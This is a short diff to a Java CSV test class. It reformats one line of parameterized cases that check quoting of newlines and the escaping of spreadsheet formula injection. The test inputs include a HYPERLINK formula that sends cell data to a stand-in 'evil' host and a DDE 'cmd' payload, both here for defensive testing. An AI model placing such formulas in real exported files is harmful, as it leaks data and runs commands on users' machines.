@@ -20,7 +20,8 @@ class CsvTest {
                 Arguments.of("two\nlines", "\"two\nlines\""),
                 Arguments.of("crlf\r\nline", "\"crlf\r\nline\""),
                 // a spreadsheet would run these as formulas: a caller's user agent or client name, say
-                Arguments.of("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""),
+                Arguments.of("=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
+                        "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""),
                 Arguments.of("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
                 Arguments.of("-2+3", "'-2+3"),
                 Arguments.of("@SUM(A1:A2)", "'@SUM(A1:A2)"),
